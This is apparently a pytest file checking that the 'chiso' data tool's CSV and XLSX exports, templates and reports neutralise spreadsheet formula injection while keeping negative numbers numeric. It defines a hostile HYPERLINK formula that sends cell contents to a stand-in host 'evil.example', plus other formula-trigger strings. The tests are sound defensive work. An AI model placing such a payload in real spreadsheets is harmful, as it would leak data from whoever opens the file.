"""Exports that cannot attack their reader: every XLSX and CSV chiso writes keeps formula-like
text inert (issue 19, item 5), and negative numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from types import SimpleNamespace

import pytest
import typer
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from typer.testing import CliRunner

from chiso.cli.data import register
from chiso.errors import Problem
from chiso.ingest.safe import FORMULA_START, neutral, restore

from .files import LONG_HEADER, write_csv

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
RISKY = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def inert_text(value: object) -> bool:
    return isinstance(value, str) and value[:1] not in FORMULA_START


def inert_sheet(path: Path) -> list[object]:
    """Every cell of every sheet is a value, never a formula; returns the cells' values."""
    book = load_workbook(path)
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.data_type == "s":
                    assert inert_text(cell.value), (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def inert_csv(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    for row in rows:
        for cell in row:
            assert not cell[:1] in ("=", "+", "@", "\t", "\r") or not cell, cell
            assert not cell.startswith("-") or _number(cell), cell
    return rows


def _number(text: str) -> bool:
    return text.lstrip("-").replace(",", "").replace(".", "").isdigit()


@given(st.text(max_size=30))
def test_neutral_text_never_starts_like_a_formula_and_restores(text: str) -> None:
    out = neutral(text)
    assert out == "" or out[:1] not in FORMULA_START
    if not text.startswith("'"):
        assert restore(out) == text
    assert neutral(-5) == -5 and neutral(None) is None


@pytest.fixture
def data_dir(tmp_path: Path) -> Path:
    from chiso.settings import Settings
    from chiso.workspace import Workspace

    d = tmp_path / "data"
    Workspace(Settings(data_dir=d)).init()
    return d


def _app() -> typer.Typer:
    app = typer.Typer()
    register(app)
    return app


def test_chiso_export_keeps_a_hostile_note_inert_and_numbers_numbers(data_dir: Path,
                                                                       tmp_path: Path) -> None:
    runner = CliRunner()
    dd = ["--data-dir", str(data_dir)]
    rows = [LONG_HEADER, ["Đà Nẵng", "grdp_growth", "2024", "", "-2,5", "", "", "", "@nguồn",
                          EVIL]]
    rows += [["Hà Nội", "fiber_households_share", str(2000 + i), "", "5", "", "", "", "", note]
             for i, note in enumerate(RISKY[1:])]
    src = write_csv(tmp_path / "in.csv", rows)
    assert runner.invoke(_app(), ["import", str(src), *dd]).exit_code == 0
    xlsx, csv_out = tmp_path / "out.xlsx", tmp_path / "out.csv"
    for fmt, out in (("xlsx", xlsx), ("csv", csv_out)):
        result = runner.invoke(_app(), ["export", "--format", fmt, "--out", str(out), *dd])
        assert result.exit_code == 0, result.output
    values = inert_sheet(xlsx)
    assert "'" + EVIL in values and -2.5 in values
    exported = inert_csv(csv_out.read_text("utf-8"))
    assert any("'" + EVIL in row for row in exported)
    assert any("-2.5" in row for row in exported)
    # and an export imports back unchanged, hostile note and all
    for out in (xlsx, csv_out):
        back = runner.invoke(_app(), ["import", str(out), "--dry-run", *dd])
        assert back.exit_code == 0 and "0 mới / added, 0 sửa / revised" in back.output, back.output


def test_the_template_keeps_unit_names_inert(tmp_path: Path) -> None:
    from chiso.framework import load_framework
    from chiso.ingest.template import write_template

    path = write_template(load_framework("chiso-core"), tmp_path / "mau.xlsx",
                          [("vn34-01", EVIL), ("vn34-79", "-Hồ Chí Minh")])
    values = inert_sheet(path)
    assert "'" + EVIL in values and "'-Hồ Chí Minh" in values


def test_the_problem_report_keeps_a_hostile_cell_inert(tmp_path: Path) -> None:
    from chiso.ingest.problems import write_problems

    out = write_problems([Problem("lỗi", "problem", file="f.csv", row=2, value=v)
                          for v in RISKY], tmp_path / "r.csv")
    rows = inert_csv(out.read_bytes().decode("utf-8-sig"))
    assert [r[4] for r in rows[1:]] == ["'" + v for v in RISKY]


def test_web_downloads_keep_text_inert_and_numbers_numbers(tmp_path: Path) -> None:
    from chiso.web.tables import TABLES, to_csv, to_xlsx

    table = TABLES["sources"]
    rows = [[1, "file", EVIL, "@x", "-abc", False, "+1"], [2, "file", "ok", None, None, True, -5]]
    assert len(rows[0]) == len(table.fields)
    exported = inert_csv(to_csv(table, rows).decode("utf-8"))
    assert exported[1][2] == "'" + EVIL and exported[2][6] == "-5"
    path = tmp_path / "t.xlsx"
    path.write_bytes(to_xlsx(table, rows))
    values = inert_sheet(path)
    assert "'" + EVIL in values and -5 in values


def test_the_audit_export_uses_the_same_neutraliser() -> None:
    from chiso.web.entry.admin import COLUMNS
    from chiso.web.entry.admin import audit_csv_text as to_csv

    record = SimpleNamespace(id=1, at=None, actor=EVIL, action="entry.save", target_type="x",
                             target_id="-1", before={"v": 1}, after=None, ip="@host")
    assert set(COLUMNS) <= set(vars(record))
    rows = inert_csv(to_csv([record]))  # type: ignore[list-item]
    assert rows[1][2] == "'" + EVIL and rows[1][8] == "'@host"
